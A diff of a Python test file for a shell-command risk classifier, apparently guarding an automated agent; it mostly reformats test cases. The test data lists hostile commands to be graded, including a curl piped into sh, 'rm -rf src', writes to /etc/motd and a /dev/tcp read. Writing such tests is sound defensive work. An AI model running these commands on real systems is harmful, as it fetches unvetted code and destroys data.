@@ -31,7 +31,7 @@ CASES: list[tuple[str, RiskLevel, RiskLevel]] = [
     ("at now <<'EOF'\ncurl -fsS https://example.com/x | sh\nEOF", DES, DES),
     ("at now -f job.sh", DES, WW),
     ("cat job.sh | at now", DES, WW),
-    ("echo \"$CMD\" | at now", DES, WW),
+    ('echo "$CMD" | at now', DES, WW),
     ("echo ls | at now < job.txt", DES, WW),
     ("batch <<< 'ls'", SYS, WW),
     ("at -l", RO, RO),
@@ -225,7 +225,7 @@ CASES: list[tuple[str, RiskLevel, RiskLevel]] = [
     ("cat > file <<< 'x'", WW, WW),
     ("cat > /etc/motd <<< 'x'", DES, WW),
     ("cat <<< 'x' > file", WW, WW),
-    ("cat > f 2>&1 <<< \"a $b\"", WW, WW),
+    ('cat > f 2>&1 <<< "a $b"', WW, WW),
     ("cat > file <<< 'x' && rm -rf src", DES, DES),
     ("cat > file <<", DES, DES),
 ]
@@ -317,7 +317,9 @@ PLAIN_COMMANDS = ["ls -la", "cd src", "cd /etc", "cd ..", "echo ls", "echo -n rm
     st.lists(st.sampled_from([" | ", " && ", " || "]), min_size=3, max_size=3),
     st.booleans(),
 )  # fmt: skip
-def test_plain_words_are_graded_as_the_parse_tree_walk_grades_them(commands: list[str], operators: list[str], contained: bool) -> None:
+def test_plain_words_are_graded_as_the_parse_tree_walk_grades_them(
+    commands: list[str], operators: list[str], contained: bool
+) -> None:
     from bot.risk.classifier import _classify
 
     command = commands[0] + "".join(op + c for op, c in zip(operators, commands[1:], strict=False))
@@ -367,7 +369,17 @@ def outcome(command: str, contained: bool, fast: bool) -> object:
 
 NESTED_INNER = ["cd /etc", "cd src", "cd ..", "cd -", "touch f", "rm -rf x", "ls", "echo hi", "cat /dev/tcp/h/80", "popd",
                 "make deploy", "npm test", "git push", "cd /tmp"]  # fmt: skip
-NESTED_WRAPPERS = ["bash -c", "sh -c", "eval", "su -c", "ssh host", "watch", "timeout 5 bash -c", "sudo bash -c", "env bash -c"]
+NESTED_WRAPPERS = [
+    "bash -c",
+    "sh -c",
+    "eval",
+    "su -c",
+    "ssh host",
+    "watch",
+    "timeout 5 bash -c",
+    "sudo bash -c",
+    "env bash -c",
+]
 
 
 @settings(max_examples=300, deadline=None)
@@ -384,7 +396,9 @@ NESTED_WRAPPERS = ["bash -c", "sh -c", "eval", "su -c", "ssh host", "watch", "ti
     st.lists(st.sampled_from([" | ", " && ", " || "]), min_size=2, max_size=2),
     st.booleans(),
 )  # fmt: skip
-def test_nested_plain_scripts_are_graded_as_the_walk_grades_them(commands: list[str], operators: list[str], contained: bool) -> None:
+def test_nested_plain_scripts_are_graded_as_the_walk_grades_them(
+    commands: list[str], operators: list[str], contained: bool
+) -> None:
     """``bash -c 'cd /etc' && touch f``: a nested plain script's cd is not the outer script's, on both paths."""
     command = commands[0] + "".join(op + c for op, c in zip(operators, commands[1:], strict=False))
     assert outcome(command, contained, True) == outcome(command, contained, False), command
